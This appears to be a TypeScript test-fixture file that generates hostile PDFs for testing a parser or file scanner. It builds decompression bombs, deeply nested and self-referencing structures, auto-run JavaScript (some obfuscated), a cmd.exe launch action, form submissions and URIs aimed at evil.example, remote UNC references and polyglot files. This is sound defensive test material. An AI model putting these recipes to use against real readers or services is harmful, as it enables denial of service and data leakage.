import { deflateSync } from "node:zlib";
import { deflated, type Recipe } from "./hostile-file.ts";

const CATALOG = "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n";
const PAGES = "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n";
const PAGE = "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >> endobj\n";
const CONTENT = stream(4, "", Buffer.from("BT (Transfer) Tj ET"));
const END = "trailer << /Root 1 0 R /Size 9 >>\nstartxref\n0\n%%EOF\n";

function stream(number: number, dictionary: string, bytes: Uint8Array): Buffer {
  return Buffer.concat([
    Buffer.from(`${number} 0 obj << /Length ${bytes.length} ${dictionary} >> stream\n`, "latin1"),
    bytes,
    Buffer.from("\nendstream endobj\n"),
  ]);
}

/** A document of one page with `parts` after it; a part that begins with the number of a usual object takes its place. */
function document(parts: (string | Uint8Array)[], end = END): Buffer {
  const bytes = parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : part));
  const begins = bytes.map((part) => Buffer.from(part.subarray(0, 8)).toString("latin1"));
  const usual = [CATALOG, PAGES, PAGE, CONTENT].filter(
    (_, index) => !begins.some((begin) => begin.startsWith(`${index + 1} 0 obj`)),
  );
  return Buffer.concat([
    Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1"),
    ...usual.map((part) => (typeof part === "string" ? Buffer.from(part) : part)),
    ...bytes,
    Buffer.from(end, "latin1"),
  ]);
}

const flate = (number: number, dictionary: string, part: Uint8Array, times = 1) =>
  stream(number, `${dictionary} /Filter /FlateDecode`, deflated(part, times));
const MEGABYTE = 1024 * 1024;
const many = (text: string, bytes: number) => text.repeat(Math.ceil(bytes / text.length));

/** Documents that take time or memory: packed without end, nested without end, or pointing at themselves. */
export const DOCUMENT_BOMBS: Recipe[] = [
  [
    "63 MB of #2F in 64 KB.pdf",
    () => document([flate(4, "", Buffer.alloc(63 * MEGABYTE, "#2F"))]),
    "any answer",
  ],
  [
    "9,999 small streams.pdf",
    () =>
      document(Array.from({ length: 9_999 }, (_, at) => flate(at + 10, "", Buffer.from(`/A${at} #2F q Q`)))),
    "any answer",
  ],
  ["a gigabyte of zeros.pdf", () => document([flate(4, "", Buffer.alloc(8 * MEGABYTE), 128)])],
  [
    "packed twice.pdf",
    () =>
      document([
        stream(
          4,
          "/Filter [/FlateDecode /FlateDecode]",
          deflateSync(deflated(Buffer.alloc(8 * MEGABYTE), 400)),
        ),
      ]),
  ],
  [
    "objects that unpack to a gigabyte.pdf",
    () => document([flate(9, "/Type /ObjStm /N 1 /First 4", Buffer.alloc(8 * MEGABYTE, "6 0 "), 128)]),
  ],
  [
    "a million packed objects.pdf",
    () => {
      const count = 1_000_000;
      const places = Array.from({ length: count }, (_, at) => `${at + 10} ${at * 5}`).join(" ");
      const packed = Buffer.from(`${places} ${"<<>> ".repeat(count)}`);
      return document([flate(9, `/Type /ObjStm /N ${count} /First ${places.length + 1}`, packed)]);
    },
    "any answer",
  ],
  [
    "a table of two gigabytes.pdf",
    () => document([flate(9, "/Type /XRef /W [4 4 4] /Size 178956970", Buffer.alloc(16 * MEGABYTE), 128)]),
  ],
  [
    "a hundred thousand nested lists.pdf",
    () => document([`9 0 obj ${"[".repeat(100_000)}${"]".repeat(100_000)} endobj\n`]),
  ],
  [
    "nested dictionaries.pdf",
    () => document([`9 0 obj ${"<</A".repeat(300_000)} 1 ${">>".repeat(300_000)} endobj\n`]),
  ],
  ["lists that never end.pdf", () => document([`9 0 obj ${"[".repeat(9 * MEGABYTE)}`])],
  ["brackets that never end.pdf", () => document([`9 0 obj ${"(".repeat(9 * MEGABYTE)}`])],
  [
    "hexadecimal that never ends.pdf",
    () => document([`9 0 obj <${"41".repeat(4 * MEGABYTE)}`]),
    "any answer",
  ],
  [
    "names without end.pdf",
    () => document([`9 0 obj << ${many("/A#2F#2F#2F 1 ", 9 * MEGABYTE)} >> endobj\n`]),
    "any answer",
  ],
  [
    "different names.pdf",
    () =>
      document([`9 0 obj [ ${Array.from({ length: 800_000 }, (_, at) => `/N${at}`).join(" ")} ] endobj\n`]),
    "any answer",
  ],
  ["nine megabytes of comments.pdf", () => document([many("%comment\n", 9 * MEGABYTE)]), "any answer"],
  [
    "streams that never end.pdf",
    () => document([many("9 0 obj << /Length 1 >> stream\nq Q\n", 2 * MEGABYTE)]),
  ],
  ["objects that never end.pdf", () => document([many("9 0 obj << /A ", 3 * MEGABYTE)])],
  ["half an object, often.pdf", () => document([many("9 0 obj nothing ", 2 * MEGABYTE)])],
  [
    "two hundred thousand objects.pdf",
    () => document([Array.from({ length: 200_000 }, (_, at) => `${at + 10} 0 obj << >> endobj\n`).join("")]),
    "any answer",
  ],
  ["digits that look like objects.pdf", () => document([many("1 ", 9 * MEGABYTE)]), "any answer"],
  [
    "pages within themselves.pdf",
    () => document(["2 0 obj << /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 9 >> endobj\n"]),
  ],
  [
    "pages that double at each step.pdf",
    () =>
      document([
        "2 0 obj << /Type /Pages /Kids [10 0 R 10 0 R] /Count 9 >> endobj\n",
        ...Array.from(
          { length: 40 },
          (_, at) =>
            `${at + 10} 0 obj << /Type /Pages /Parent 2 0 R /Kids [${at + 11} 0 R ${at + 11} 0 R] /Count 9 >> endobj\n`,
        ),
        "50 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >> endobj\n",
      ]),
  ],
  [
    "a length that is itself.pdf",
    () => document(["4 0 obj << /Length 4 0 R >> stream\nq Q\nendstream endobj\n"]),
    "any answer",
  ],
  [
    "references in a ring.pdf",
    () => document(["7 0 obj 8 0 R endobj\n8 0 obj 7 0 R endobj\n", "3 0 obj 7 0 R endobj\n"]),
  ],
  [
    "tables in a ring.pdf",
    () =>
      document(
        [],
        "xref\n0 1\n0000000000 65535 f\ntrailer << /Root 1 0 R /Prev 9 /XRefStm 9 >>\nstartxref\n9\n%%EOF\n",
      ),
    "any answer",
  ],
  [
    "a table of four thousand million.pdf",
    () => document([], `xref\n0 4294967295\n${many("0000000000 65535 f \n", MEGABYTE)}${END}`),
    "any answer",
  ],
  [
    "objects packed among themselves.pdf",
    () =>
      document([
        flate(
          9,
          "/Type /ObjStm /N 1 /First 4 /Extends 9 0 R",
          Buffer.from("9 0 << /Type /ObjStm /Extends 9 0 R >>"),
        ),
      ]),
    "any answer",
  ],
  [
    "objects by the thousand million.pdf",
    () => document([flate(9, "/Type /ObjStm /N 2147483647 /First 4", Buffer.from("9 0 <<>>"))]),
  ],
  ["a bomb packed as LZW.pdf", () => document([stream(4, "/Filter /LZWDecode", Buffer.alloc(4 * MEGABYTE))])],
  [
    "a bomb behind letters.pdf",
    () =>
      document([
        stream(
          4,
          "/Filter [/ASCIIHexDecode /FlateDecode]",
          Buffer.from(`${deflated(Buffer.alloc(8 * MEGABYTE), 100).toString("hex")}>`),
        ),
      ]),
  ],
];

const packedObject = (text: string) => flate(9, "/Type /ObjStm /N 1 /First 4", Buffer.from(`8 0 ${text}`));
const catalog = (more: string) => `1 0 obj << /Type /Catalog /Pages 2 0 R ${more} >> endobj\n`;
const onPage = (annotation: string) =>
  `3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Annots [<< ${annotation} /Rect [0 0 9 9] >>] >> endobj\n`;

/** Documents that run, fetch, send, open or hide something. */
export const ACTIVE_DOCUMENTS: Recipe[] = [
  [
    "a script when opened.pdf",
    () => document([catalog("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")]),
  ],
  ["a script in disguise.pdf", () => document([catalog("/OpenAction << /S /J#61vaScript /J#53 (x) >>")])],
  [
    "a packed script.pdf",
    () => document([catalog("/OpenAction 8 0 R"), packedObject("<< /S /JavaScript /JS (x) >>")]),
  ],
  ["a script nobody points at.pdf", () => document(["8 0 obj << /S /JavaScript /JS (x) >> endobj\n"])],
  ["a program.pdf", () => document([catalog("/OpenAction << /S /Launch /F (cmd.exe) >>")])],
  [
    "an address when opened.pdf",
    () => document([catalog("/OpenAction << /S /URI /URI (https://evil.example) >>")]),
  ],
  [
    "another document.pdf",
    () => document([onPage("/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) /D [0] >>")]),
  ],
  [
    "a link that goes on to a script.pdf",
    () =>
      document([
        onPage("/Subtype /Link /A << /S /URI /URI (https://x.example) /Next << /S /JavaScript /JS (x) >> >>"),
      ]),
  ],
  [
    "a form that is sent.pdf",
    () => document([onPage("/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >>")]),
  ],
  [
    "a page that acts.pdf",
    () =>
      document(["3 0 obj << /Type /Page /Parent 2 0 R /AA << /O << /S /Named /N /Print >> >> >> endobj\n"]),
  ],
  [
    "a file within.pdf",
    () =>
      document([
        catalog("/Names << /EmbeddedFiles << /Names [(x) 8 0 R] >> >>"),
        "8 0 obj << /Type /Filespec /EF << /F 7 0 R >> >> endobj\n",
      ]),
  ],
  ["a film.pdf", () => document([onPage("/Subtype /RichMedia /RichMediaContent << >>")])],
  ["a form of another kind.pdf", () => document([catalog("/AcroForm << /XFA 8 0 R /Fields [] >>")])],
  [
    "content from elsewhere.pdf",
    () => document(["4 0 obj << /Length 0 /F (\\\\\\\\evil\\\\share) >> stream\n\nendstream endobj\n"]),
  ],
  [
    "locked.pdf",
    () =>
      document(
        [],
        "trailer << /Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 >> >>\nstartxref\n0\n%%EOF\n",
      ),
  ],
];

/** Documents that are something else too, or not whole. */
export const BROKEN_DOCUMENTS: Recipe[] = [
  [
    "a page of the web as well.pdf",
    () => Buffer.concat([Buffer.from("%PDF-1.7\n<html><script>alert(1)</script>\n"), document([])]),
    "any answer",
  ],
  [
    "an archive as well.pdf",
    () => Buffer.concat([document([]), Buffer.from("PK\x05\x06"), Buffer.alloc(18)]),
    "any answer",
  ],
  ["cut off.pdf", () => document([flate(4, "", Buffer.alloc(MEGABYTE))]).subarray(0, 200)],
  ["a name and nothing more.pdf", () => Buffer.from("%PDF-1.7\n%%EOF\n")],
  [
    "ten megabytes of nothing.pdf",
    () => Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(10 * MEGABYTE - 9)]),
  ],
];
